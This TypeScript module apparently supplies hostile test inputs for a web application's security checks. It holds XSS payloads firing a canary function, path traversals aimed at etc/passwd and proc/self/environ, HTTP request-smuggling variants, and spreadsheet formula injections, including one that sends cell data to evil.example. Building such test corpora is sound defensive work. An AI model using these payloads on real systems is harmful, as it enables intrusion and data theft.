// What a hostile author, reader or program would write.

// ---- H1: scripts. Each would call __canary() if a page took it for anything but words.
const call = "__canary()";
const marks = [
  `<script>${call}</script>`, `<img src=x onerror=${call}>`, `<svg onload=${call}>`, `<svg><script>${call}</script></svg>`, `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`, `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`, `<input autofocus onfocus=${call}>`, `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`, `<body onload=${call}>`, `<style>@import "javascript:${call}"</style>`, `<link rel=stylesheet href="javascript:${call}">`, `<base href="javascript:/*">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`, `<object data="javascript:${call}">`, `<embed src="data:text/html,<script>${call}</script>">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<template><script>${call}</script></template>`, `<marquee onstart=${call}>x`, `<form action="javascript:${call}"><button autofocus>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `{{constructor.constructor('${call}')()}}`, `\${${call}}`, `<%= ${call} %>`, `javascript:${call}`, `data:text/html,<script>${call}</script>`, `'-${call}-'`, `";${call};//`, `</title><script>${call}</script>`,
];
const disguises: ((mark: string) => string)[] = [
  (mark) => mark, (mark) => mark.toUpperCase().replaceAll("__CANARY()", call), (mark) => `">${mark}`, (mark) => `'>${mark}`, (mark) => `--> ${mark} <!--`, (mark) => `</script>${mark}`,
  (mark) => `]]>${mark}`, (mark) => mark.replaceAll("<", "&lt;").replaceAll(">", "&gt;"), (mark) => mark.replaceAll(" ", "/"), (mark) => encodeURIComponent(mark),
];
export const scripts: string[] = disguises.flatMap((disguise) => marks.map(disguise));

// ---- H3: texts. Refused, because nobody can see what they hold …
const at = (...points: number[]): string => String.fromCodePoint(...points);
export const unseen: Record<string, string> = {
  NUL: "a\u0000b", "a bell": "a\u0007b", "a line end": "a\nb", "a carriage return": "a\rb", "a tab": "a\tb", escape: "a\u001b[31mb", DEL: "a\u007fb", "C1 control": "a\u009bb", "next line": "a\u0085b",
  LRE: `a${at(0x202a)}b`, RLE: `a${at(0x202b)}b`, PDF: `a${at(0x202c)}b`, LRO: `a${at(0x202d)}b`, RLO: `a${at(0x202e)}b`, LRI: `a${at(0x2066)}b`, RLI: `a${at(0x2067)}b`, FSI: `a${at(0x2068)}b`, PDI: `a${at(0x2069)}b`,
};
// … and taken as they are, but kept to themselves.
export const odd: Record<string, string> = {
  Arabic: "قرار بشأن المقاعد", "Arabic and Latin": "A/RES/1 قرار (مؤقت) 2!", "Hebrew and digits": "א 12-34 ב", zalgo: `z${at(...Array.from({ length: 40 }, (_, i) => 0x300 + i))}o`,
  "a joiner": `به${at(0x200c)}خوبی`, "an emoji of several": `x${at(0x1f469, 0x200d, 0x2696, 0xfe0f)}y`, "a right-to-left mark": `a${at(0x200f)}b`, "an Arabic letter mark": `a${at(0x061c)}b`,
  "a line separator": `a${at(0x2028)}b`, "a paragraph separator": `a${at(0x2029)}b`, "no-break spaces": `a${at(0xa0, 0x202f)}b`, NFD: "e\u0301", "a byte order mark inside": `a${at(0xfeff)}b`, "the last code point": at(0x10ffff),
};
// Bytes that are no UTF-8: they stand where a title does.
export const broken: Record<string, number[]> = {
  "overlong /": [0xc0, 0xaf], "overlong NUL": [0xc0, 0x80], "overlong in three": [0xe0, 0x80, 0xaf], "overlong in four": [0xf0, 0x80, 0x80, 0xaf], "a surrogate": [0xed, 0xa0, 0x80],
  "above the last": [0xf4, 0x90, 0x80, 0x80], "a lone tail": [0x80], "a lone head": [0xe2, 0x82], "five bytes": [0xf8, 0x88, 0x80, 0x80, 0x80], "0xff": [0xff], "Latin-1": [0xe9],
};

// ---- H8: paths that would leave a folder, if paths were names of files
const ups = ["../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "..;/", ".%00./", "..%c0%af", "..%ef%bc%8f", "%u002e%u002e/", "....//", "./../", "/../", "..%00/", "..\t/", "%2e%2e\\", "..%0d%0a/", "~/"];
const goals = ["secret", "log.key", "secretary.key", "private/lock", "etc/passwd", "proc/self/environ"];
export function traversals(body: string): string[] {
  const places = [`/records/${body}/tile/`, `/records/${body}/blobs/`, "/assets/", `/api/${body}/receipts/`, `/records/`];
  return places.flatMap((place) => ups.flatMap((up) => goals.map((goal, i) => place + up.repeat(1 + (i % 4)) + goal)));
}

// ---- H7: requests that two readers could cut differently. What hides in them asks for /healthz.
const hidden = "GET /healthz HTTP/1.1\r\nHost: hall\r\n\r\n";
const to = "POST /api/BODY/acts HTTP/1.1\r\nHost: hall\r\n";
export const ambiguous: Record<string, string> = {
  "CL and TE": `${to}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  "TE and CL": `${to}Transfer-Encoding: chunked\r\nContent-Length: 200\r\n\r\n0\r\n\r\n${hidden}`,
  "two TE": `${to}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${hidden}`,
  "TE of another kind": `${to}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${hidden}`,
  "TE, chunked not last": `${to}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${hidden}`,
  "TE, another before it": `${to}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n${hidden}`,
  "TE with a vertical tab": `${to}Transfer-Encoding: \u000bchunked\r\n\r\n0\r\n\r\n${hidden}`,
  "TE with a space before the colon": `${to}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${hidden}`,
  "TE on a folded line": `${to}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${hidden}`,
  "two CL, the same": `${to}Content-Length: 1\r\nContent-Length: 1\r\n\r\nx${hidden}`,
  "two CL": `${to}Content-Length: 1\r\nContent-Length: 40\r\n\r\nx${hidden}`,
  "a list of CL": `${to}Content-Length: 1, 40\r\n\r\nx${hidden}`,
  "CL with a sign": `${to}Content-Length: +1\r\n\r\nx${hidden}`,
  "CL with a space inside": `${to}Content-Length: 1 0\r\n\r\nx${hidden}`,
  "bare LF": `${to.replaceAll("\r\n", "\n")}Content-Length: 1\n\nx${hidden}`,
  "bare LF in the headers": `${to}X-A: b\nContent-Length: 1\r\n\r\nx${hidden}`,
  "bare CR": `${to}X-A: b\rContent-Length: 1\r\n\r\nx${hidden}`,
  "a folded header": `${to}X-A: b\r\n c\r\nContent-Length: 1\r\n\r\nx${hidden}`,
  "a folded first header": `POST /api/BODY/acts HTTP/1.1\r\n Host: hall\r\nContent-Length: 1\r\n\r\nx${hidden}`,
  "no Host": `POST /api/BODY/acts HTTP/1.1\r\nContent-Length: 1\r\n\r\nx${hidden}`,
  "two Hosts": `${to}Host: other\r\nContent-Length: 1\r\n\r\nx${hidden}`,
  "a chunk with a space": `${to}Transfer-Encoding: chunked\r\n\r\n 1\r\nx\r\n0\r\n\r\n${hidden}`,
  "a chunk in hex with 0x": `${to}Transfer-Encoding: chunked\r\n\r\n0x1\r\nx\r\n0\r\n\r\n${hidden}`,
  "a chunk's bare LF": `${to}Transfer-Encoding: chunked\r\n\r\n1\nx\n0\n\n${hidden}`,
};

// ---- H11: what a spreadsheet would compute
export const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "-2+3+cmd|' /C calc'!A0", "@A1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "+A1,\"b"];
